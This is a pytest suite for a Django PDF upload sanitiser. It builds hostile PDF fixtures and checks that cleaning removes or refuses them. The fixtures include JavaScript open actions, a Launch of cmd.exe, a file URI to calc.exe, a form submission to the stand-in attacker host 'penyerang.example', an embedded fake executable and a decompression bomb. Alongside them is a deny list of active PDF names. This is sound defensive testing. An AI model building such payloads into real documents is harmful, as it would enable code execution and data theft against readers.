"""A PDF keeps its pages and loses everything a reader would run, open or submit; huge ones are refused;
stored uploads are readable by the service's user only."""

import io
import os
import stat
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject, DecodedStreamObject, DictionaryObject, EncodedStreamObject, IndirectObject, NameObject,
    NumberObject, TextStringObject,
)

from baruga.lib.uploads import clean_upload

SCRIPT = "app.alert('pwned')"
# Names that mean "something runs, opens or is submitted" wherever they appear in a cleaned file.
ACTIVE_NAMES = {"/AA", "/OpenAction", "/JS", "/JavaScript", "/Launch", "/SubmitForm", "/ImportData",
                "/EmbeddedFile", "/EmbeddedFiles", "/EF", "/XFA", "/AcroForm", "/FileAttachment", "/RichMedia"}


def name(value):
    return NameObject(value)


def action(kind, **entries):
    result = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
    for key, value in entries.items():
        result[name(f"/{key}")] = value
    return result


def javascript():
    return action("/JavaScript", JS=TextStringObject(SCRIPT))


def link(writer, page, the_action, key="/A"):
    annotation = DictionaryObject({
        name("/Type"): name("/Annot"), name("/Subtype"): name("/Link"),
        name("/Rect"): ArrayObject([NumberObject(10), NumberObject(10), NumberObject(90), NumberObject(30)]),
        name(key): the_action,
    })
    ref = writer._add_object(annotation)
    page[name("/Annots")] = ArrayObject([*page.get("/Annots", []), ref])
    return annotation


def pdf(build, pages=1):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    build(writer, writer.pages[0])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def walk(reader):
    """Every dictionary key and name value reachable from the trailer of `reader`'s file."""
    seen, found, todo = set(), set(), [reader.trailer]
    while todo:
        obj = todo.pop()
        if isinstance(obj, IndirectObject):
            if (obj.idnum, obj.generation) in seen:
                continue
            seen.add((obj.idnum, obj.generation))
            obj = obj.get_object()
        if isinstance(obj, DictionaryObject):
            found.update(obj.keys())
            todo.extend(obj.values())
        elif isinstance(obj, ArrayObject):
            todo.extend(obj)
        elif isinstance(obj, NameObject):
            found.add(str(obj))
    return found


def cleaned(content):
    result = clean_upload(SimpleUploadedFile("bukti.pdf", content))
    assert result.content_type == "application/pdf"
    reader = PdfReader(io.BytesIO(result.content))
    return result.content, reader


def assert_inert(content):
    assert SCRIPT.encode() in content or b"/JavaScript" in content or b"/AA" in content or b"/EF" in content, \
        "the fixture really carries active content"
    out, reader = cleaned(content)
    assert len(reader.pages) >= 1
    left = walk(reader) & ACTIVE_NAMES
    assert not left, left
    assert SCRIPT.encode() not in out
    return out, reader


def test_a_page_open_action_script_is_removed():
    # The attack that survived: the page's own additional actions, run when the page opens.
    def build(writer, page):
        page[name("/AA")] = DictionaryObject({name("/O"): javascript(), name("/C"): javascript()})

    assert_inert(pdf(build))


@pytest.mark.parametrize("kind", ["javascript", "launch", "file-uri", "submit-form", "import-data", "remote"])
def test_a_link_with_an_active_action_loses_the_action(kind):
    actions = {
        "javascript": javascript(),
        "launch": action("/Launch", F=TextStringObject("cmd.exe"), Win=DictionaryObject(
            {name("/F"): TextStringObject("cmd.exe"), name("/P"): TextStringObject("/c calc")})),
        "file-uri": action("/URI", URI=TextStringObject("file:///C:/Windows/System32/calc.exe")),
        "submit-form": action("/SubmitForm", F=TextStringObject("https://penyerang.example/ambil")),
        "import-data": action("/ImportData", F=TextStringObject("data.fdf")),
        "remote": action("/GoToR", F=TextStringObject("\\\\penyerang\\share\\x.pdf")),
    }

    def build(writer, page):
        link(writer, page, actions[kind])

    content = pdf(build)
    out, reader = cleaned(content)
    assert walk(reader) & ACTIVE_NAMES == set()
    annotation = reader.pages[0]["/Annots"][0].get_object()
    assert "/A" not in annotation
    for trace in (b"cmd.exe", b"calc", b"penyerang", b"data.fdf", SCRIPT.encode()):
        assert trace not in out, trace


def test_a_web_link_and_an_internal_link_are_kept():
    def build(writer, page):
        link(writer, page, action("/URI", URI=TextStringObject("https://lapor.makassarkota.go.id/")))

    out, reader = cleaned(pdf(build))
    annotation = reader.pages[0]["/Annots"][0].get_object()
    assert annotation["/A"]["/S"] == "/URI"
    assert annotation["/A"]["/URI"] == "https://lapor.makassarkota.go.id/"


def test_a_chained_action_after_a_harmless_one_is_removed():
    def build(writer, page):
        link(writer, page, action("/URI", URI=TextStringObject("https://contoh.id/"), Next=javascript()))

    assert_inert(pdf(build))


def test_annotation_triggers_are_removed():
    def build(writer, page):
        link(writer, page, DictionaryObject({name("/E"): javascript(), name("/U"): javascript()}), key="/AA")

    assert_inert(pdf(build))


def test_document_scripts_embedded_files_forms_and_xfa_are_removed():
    def build(writer, page):
        root = writer._root_object
        root[name("/OpenAction")] = writer._add_object(javascript())
        root[name("/AA")] = DictionaryObject({name("/WC"): javascript()})
        embedded = DecodedStreamObject()
        embedded.set_data(b"MZ-executable-payload")
        embedded[name("/Type")] = name("/EmbeddedFile")
        spec = DictionaryObject({name("/Type"): name("/Filespec"), name("/F"): TextStringObject("faktur.exe"),
                                 name("/EF"): DictionaryObject({name("/F"): writer._add_object(embedded)})})
        root[name("/Names")] = DictionaryObject({
            name("/JavaScript"): DictionaryObject({name("/Names"): ArrayObject(
                [TextStringObject("mulai"), writer._add_object(javascript())])}),
            name("/EmbeddedFiles"): DictionaryObject({name("/Names"): ArrayObject(
                [TextStringObject("faktur.exe"), writer._add_object(spec)])}),
        })
        # A form field with a keystroke script, its widget on the page, and an XFA packet.
        field = DictionaryObject({name("/FT"): name("/Tx"), name("/T"): TextStringObject("nama"),
                                  name("/AA"): DictionaryObject({name("/K"): javascript()})})
        field_ref = writer._add_object(field)
        widget = DictionaryObject({
            name("/Type"): name("/Annot"), name("/Subtype"): name("/Widget"), name("/Parent"): field_ref,
            name("/Rect"): ArrayObject([NumberObject(10), NumberObject(50), NumberObject(150), NumberObject(70)]),
            name("/AA"): DictionaryObject({name("/Fo"): javascript()}),
        })
        widget_ref = writer._add_object(widget)
        field[name("/Kids")] = ArrayObject([widget_ref])
        xfa = DecodedStreamObject()
        xfa.set_data(b"<xdp:xdp><script>" + SCRIPT.encode() + b"</script></xdp:xdp>")
        root[name("/AcroForm")] = DictionaryObject({name("/Fields"): ArrayObject([field_ref]),
                                                    name("/XFA"): writer._add_object(xfa)})
        # The file also hangs on the page as an attachment annotation.
        page[name("/Annots")] = ArrayObject([widget_ref, writer._add_object(DictionaryObject({
            name("/Type"): name("/Annot"), name("/Subtype"): name("/FileAttachment"), name("/FS"): spec,
            name("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(5), NumberObject(5)]),
        }))])

    content = pdf(build)
    assert b"MZ-executable-payload" in content
    out, reader = assert_inert(content)
    assert b"MZ-executable-payload" not in out and b"faktur.exe" not in out and b"xdp" not in out
    subtypes = [a.get_object().get("/Subtype") for a in reader.pages[0].get("/Annots", [])]
    assert subtypes == ["/Widget"]  # the field's appearance stays; its scripts and the attachment do not


# --- limits --------------------------------------------------------------------------------------


def refusal(content):
    with pytest.raises(ValidationError) as refused:
        clean_upload(SimpleUploadedFile("bukti.pdf", content))
    return refused.value.messages


def test_a_pdf_with_more_pages_than_the_limit_is_refused(settings):
    settings.UPLOAD_PDF_MAX_PAGES = 3
    assert cleaned(pdf(lambda writer, page: None, pages=3))[1].pages
    assert refusal(pdf(lambda writer, page: None, pages=4)) == [
        "PDF bukti.pdf terlalu banyak halamannya (maksimal 3 halaman)."
    ]


def test_a_page_count_that_lies_does_not_let_more_pages_through(settings):
    settings.UPLOAD_PDF_MAX_PAGES = 3

    def build(writer, page):
        writer._root_object["/Pages"].get_object()[name("/Count")] = NumberObject(1)

    assert refusal(pdf(build, pages=5)) == ["PDF bukti.pdf terlalu banyak halamannya (maksimal 3 halaman)."]


def test_the_default_page_limit_refuses_twenty_thousand_pages():
    writer = PdfWriter()
    for _ in range(20_000):
        writer.add_blank_page(width=10, height=10)
    out = io.BytesIO()
    writer.write(out)
    assert refusal(out.getvalue()) == ["PDF bukti.pdf terlalu banyak halamannya (maksimal 500 halaman)."]


def test_a_stream_that_unpacks_past_the_limit_is_refused(settings):
    settings.UPLOAD_PDF_MAX_UNPACKED_BYTES = 1024 * 1024

    def build(writer, page):
        bomb = EncodedStreamObject()
        bomb._data = zlib.compress(b"0" * (20 * 1024 * 1024), 9)  # 20 MB of content in ~20 kB
        bomb[name("/Filter")] = name("/FlateDecode")
        page[name("/Contents")] = writer._add_object(bomb)

    content = pdf(build)
    assert len(content) < 100_000
    assert refusal(content) == ["PDF bukti.pdf terlalu besar setelah dibuka (lebih dari 1,0\xa0MB)."]


def test_a_stream_within_the_limit_is_accepted(settings):
    settings.UPLOAD_PDF_MAX_UNPACKED_BYTES = 1024 * 1024

    def build(writer, page):
        contents = EncodedStreamObject()
        contents._data = zlib.compress(b"q Q\n" * 1000)
        contents[name("/Filter")] = name("/FlateDecode")
        page[name("/Contents")] = writer._add_object(contents)

    assert len(cleaned(pdf(build))[1].pages) == 1


# --- stored files --------------------------------------------------------------------------------


def mode(path):
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.mark.django_db
def test_stored_attachments_are_private_to_the_service_user(cast, file_report, settings):
    old_umask = os.umask(0o022)  # the usual umask, which gave 0644 files and 0755 directories
    try:
        report = file_report(attachments=[SimpleUploadedFile("bukti.pdf", pdf(lambda writer, page: None))])
    finally:
        os.umask(old_umask)
    attachment = report.attachments.get()
    path = attachment.file.path
    assert mode(path) == 0o600
    directory = os.path.dirname(path)
    while os.path.realpath(directory) != os.path.realpath(settings.MEDIA_ROOT):
        assert mode(directory) == 0o700, directory
        directory = os.path.dirname(directory)
    assert mode(settings.MEDIA_ROOT) == 0o700
